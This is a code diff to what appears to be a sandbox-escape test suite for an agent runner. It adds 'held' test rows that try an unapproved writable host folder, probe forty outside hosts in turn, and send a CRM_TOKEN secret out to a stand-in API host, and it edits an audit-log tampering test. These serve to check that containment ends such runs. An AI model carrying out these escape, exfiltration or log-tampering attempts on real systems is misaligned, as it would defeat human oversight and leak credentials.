@@ -1,11 +1,12 @@
 /** The runner itself: what it is handed, and what changes around it between looking and doing. */
 import * as fs from 'node:fs';
 import { join, normalize } from 'node:path';
-import type { RunRequest } from '../../../runner/run.ts';
+import type { EndReason, RunRequest } from '../../../runner/run.ts';
 import type { Sandbox } from '../../../runner/sandbox.ts';
 import { readEntries, verifyAuditFile } from '../../audit-file.ts';
-import type { Outcome, RunnerAttempt } from '../row.ts';
-import { auditFileOf, auditKeyFileOf, type EscapeSkill } from '../sandboxed.ts';
+import { wantedAttempt } from '../batch.ts';
+import { type Outcome, type RunnerAttempt, saysThrough } from '../row.ts';
+import { auditFileOf, auditKeyFileOf, type EscapeSkill, runSandboxed, widestCapabilities } from '../sandboxed.ts';
 import type { EscapeWorld } from '../world.ts';
 import { runOnce } from './run-once.ts';
 
@@ -98,6 +99,45 @@ export const manifestRows: readonly RunnerAttempt[] = [
   ),
 ];
 
+/** Host policy as it is by itself. */
+const strict = (writable: readonly string[]) => (request: RunRequest) => ({
+  hostPolicy: { ...request.hostPolicy, writable, breakers: {} },
+});
+
+/** What waits for a person. */
+export const heldRows: readonly RunnerAttempt[] = [
+  refusing(
+    'a writable folder that nobody said yes to',
+    'a folder of the host',
+    () => ({ ...quiet, capabilities: { mount: widestCapabilities.mount } }),
+    () => true,
+    () => strict([]),
+  ),
+  {
+    name: 'ask for one host after another until one is open',
+    wants: 'a place that was not granted',
+    bare: async () => true,
+    attempt: (world, sandbox) =>
+      endedBy(world, sandbox, 'breaker', `for n in range(40): get('http://h%d.elsewhere.example/' % n, 'x')`),
+  },
+  {
+    name: 'use the secret in one place after another until one is open',
+    wants: 'the secret at a place of its choice',
+    bare: async () => true,
+    attempt: (world, sandbox) =>
+      endedBy(world, sandbox, 'breaker', `for n in range(40): get('http://api.crm.example/v2/' + os.environ['CRM_TOKEN'])`),
+  },
+];
+
+/** Made with host policy as it is by itself: the run is ended before the attempt is. */
+async function endedBy(world: EscapeWorld, sandbox: Sandbox, reason: EndReason, code: string): Promise<Outcome> {
+  const wanted = wantedAttempt(world, { name: 'again', wants: '', code: `${code}\nwon()`, proof: saysThrough, seconds: 30 }, 0);
+  const end = await runSandboxed(world, sandbox, [wanted], { atOnce: 1, change: strict(['reports']) });
+  if (end.reason === reason) return { result: 'contained', detail: `the run was ended: ${reason}` };
+  const output = end.told.get('again') ?? '';
+  return { result: /^through$/m.test(output) ? 'through' : 'untested', detail: `${end.reason}: ${output}` };
+}
+
 /** Bytes that are not those that were approved. */
 export const bundleRows: readonly RunnerAttempt[] = [
   refusing(
@@ -168,7 +208,7 @@ export const logRows: readonly RunnerAttempt[] = [
         const [first = '', second = '', ...others] = lines;
         const edited = {
           removed: [first, ...others],
-          altered: [first, second.replace('probe', 'other'), ...others],
+          altered: [first.replace('probe', 'other'), second, ...others],
           moved: [second, first, ...others],
         };
         fs.writeFileSync(file, `${edited[how].join('\n')}\n`);
